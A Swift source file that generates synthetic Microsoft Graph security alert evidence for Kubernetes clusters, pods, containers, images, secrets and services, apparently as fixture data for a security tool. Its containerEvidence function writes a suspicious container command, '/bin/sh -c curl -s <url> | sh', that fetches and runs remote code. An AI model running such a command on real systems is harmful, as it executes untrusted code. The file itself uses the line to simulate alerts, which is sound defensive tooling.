/// Evidence of containers and Kubernetes: clusters, namespaces, pods, controllers, services, secrets, service
/// accounts, containers, images and registries (nested as Graph nests them).
extension AlertWriting {
    mutating func kubernetesClusterEvidence(typed: Bool = true) {
        evidence(typed ? "#microsoft.graph.security.kubernetesClusterEvidence" : nil, roles: ["attacked"]) { alert in
            let platform = alert.random.pick(["aks", "eks", "gke", "arc", "unknown"])
            alert.writer.key("cloudResource")
            switch platform {
            case "eks": alert.amazonResourceEvidence()
            case "gke": alert.googleCloudResourceEvidence()
            default:
                alert.azureResourceEvidence(kind: "Microsoft.ContainerService/managedClusters", name: "aks-prod-weu")
            }
            alert.key("distribution", platform == "aks" ? "AKS" : platform.uppercased())
            alert.key("name", "prod-weu-1")
            alert.writer.key("platform")
            alert.writer.plain(platform)
            alert.key("version", alert.random.pick(["1.29.4", "1.28.9", "1.30.1"]))
        }
    }

    mutating func kubernetesNamespaceEvidence(typed: Bool = true) {
        evidence(typed ? "#microsoft.graph.security.kubernetesNamespaceEvidence" : nil, roles: ["contextual"]) {
            alert in
            alert.writer.key("cluster")
            alert.kubernetesClusterEvidence(typed: false)
            alert.writer.key("labels")
            alert.object { alert in alert.key("team", "payments") }
            alert.key("name", alert.random.pick(["payments", "default", "ingress-nginx", "monitoring"]))
        }
    }

    mutating func kubernetesServiceAccountEvidence(typed: Bool = true) {
        evidence(typed ? "#microsoft.graph.security.kubernetesServiceAccountEvidence" : nil, roles: ["contextual"]) {
            alert in
            alert.key("name", alert.random.pick(["default", "payments-api", "ci-deployer"]))
            alert.writer.key("namespace")
            alert.kubernetesNamespaceEvidence(typed: false)
        }
    }

    mutating func kubernetesControllerEvidence(typed: Bool = true) {
        evidence(typed ? "#microsoft.graph.security.kubernetesControllerEvidence" : nil, roles: ["contextual"]) {
            alert in
            alert.writer.key("labels")
            alert.object { alert in alert.key("app", "payments-api") }
            alert.key("name", "payments-api")
            alert.writer.key("namespace")
            alert.kubernetesNamespaceEvidence(typed: false)
            alert.key("type", alert.random.pick(["Deployment", "DaemonSet", "StatefulSet", "CronJob"]))
        }
    }

    mutating func containerRegistryEvidence(typed: Bool = true) {
        evidence(typed ? "#microsoft.graph.security.containerRegistryEvidence" : nil, roles: ["contextual"]) { alert in
            alert.key("registry", alert.random.pick(["contosoprod.azurecr.io", "docker.io", "ghcr.io"]))
        }
    }

    mutating func containerImageEvidence(typed: Bool = true, withDigest: Bool = true) {
        evidence(typed ? "#microsoft.graph.security.containerImageEvidence" : nil, roles: ["contextual"]) { alert in
            let digest = alert.random.hex(64)
            alert.key("imageId", "contosoprod.azurecr.io/payments-api@sha256:\(digest)")
            alert.writer.key("registry")
            alert.containerRegistryEvidence(typed: false)
            alert.writer.key("digestImage")
            if withDigest {
                alert.containerImageEvidence(typed: false, withDigest: false)
            } else {
                alert.writer.null()
            }
        }
    }

    mutating func containerEvidence(typed: Bool = true, inPod: Bool = false) {
        evidence(
            typed ? "#microsoft.graph.security.containerEvidence" : nil, verdict: "suspicious", roles: ["attacked"]
        ) {
            alert in
            alert.key(
                "args",
                strings: ["-c", "curl -s \(alert.pools.urls[alert.random.skewed(alert.pools.urls.count)]) | sh"])
            alert.key("command", strings: ["/bin/sh"])
            alert.key("containerId", alert.random.hex(64))
            alert.writer.key("image")
            alert.containerImageEvidence(typed: false)
            alert.key("isPrivileged", bool: alert.random.chance(0.6))
            alert.key("name", "payments-api")
            alert.writer.key("pod")
            if inPod {
                alert.writer.null()
            } else {
                alert.kubernetesPodEvidence(typed: false)
            }
        }
    }

    mutating func kubernetesPodEvidence(typed: Bool = true) {
        evidence(
            typed ? "#microsoft.graph.security.kubernetesPodEvidence" : nil, verdict: "suspicious", roles: ["attacked"]
        ) {
            alert in
            alert.writer.key("containers")
            alert.array { alert in alert.containerEvidence(typed: false, inPod: true) }
            alert.writer.key("controller")
            alert.kubernetesControllerEvidence(typed: false)
            alert.key("ephemeralContainers", strings: [])
            alert.key("initContainers", strings: [])
            alert.writer.key("labels")
            alert.object { alert in alert.key("app", "payments-api") }
            alert.key("name", "payments-api-\(alert.random.hex(10))-\(alert.random.hex(5))")
            alert.writer.key("namespace")
            alert.kubernetesNamespaceEvidence(typed: false)
            alert.writer.key("podIp")
            alert.ipEvidence("10.244.\(alert.random.int(0...40)).\(alert.random.int(2...254))", typed: false)
            alert.writer.key("serviceAccount")
            alert.kubernetesServiceAccountEvidence(typed: false)
        }
    }

    mutating func kubernetesSecretEvidence() {
        evidence("#microsoft.graph.security.kubernetesSecretEvidence", verdict: "suspicious", roles: ["attacked"]) {
            alert in
            alert.key("name", alert.random.pick(["payments-db-credentials", "tls-ingress", "registry-pull"]))
            alert.writer.key("namespace")
            alert.kubernetesNamespaceEvidence(typed: false)
            alert.key(
                "secretType", alert.random.pick(["Opaque", "kubernetes.io/tls", "kubernetes.io/dockerconfigjson"]))
        }
    }

    mutating func kubernetesServiceEvidence() {
        evidence("#microsoft.graph.security.kubernetesServiceEvidence", roles: ["attacked"]) { alert in
            alert.writer.key("clusterIP")
            alert.ipEvidence("10.0.\(alert.random.int(0...255)).\(alert.random.int(2...254))", typed: false)
            alert.writer.key("externalIPs")
            alert.array { alert in
                alert.ipEvidence(alert.organization.egressAddresses[0], typed: false)
            }
            alert.writer.key("labels")
            alert.object { alert in alert.key("app", "payments-api") }
            alert.key("name", "payments-api")
            alert.writer.key("namespace")
            alert.kubernetesNamespaceEvidence(typed: false)
            alert.writer.key("selector")
            alert.object { alert in alert.key("app", "payments-api") }
            alert.writer.key("servicePorts")
            alert.array { alert in
                alert.object { alert in
                    alert.key("appProtocol", "http")
                    alert.key("name", "https")
                    alert.key("nodePort", int: alert.random.int(30000...32767))
                    alert.key("port", int: 443)
                    alert.writer.key("protocol")
                    alert.writer.plain(alert.random.pick(["tcp", "udp", "sctp"]))
                    alert.key("targetPort", "8443")
                }
            }
            alert.writer.key("serviceType")
            alert.writer.plain(alert.random.pick(["unknown", "clusterIP", "externalName", "nodePort", "loadBalancer"]))
        }
    }
}
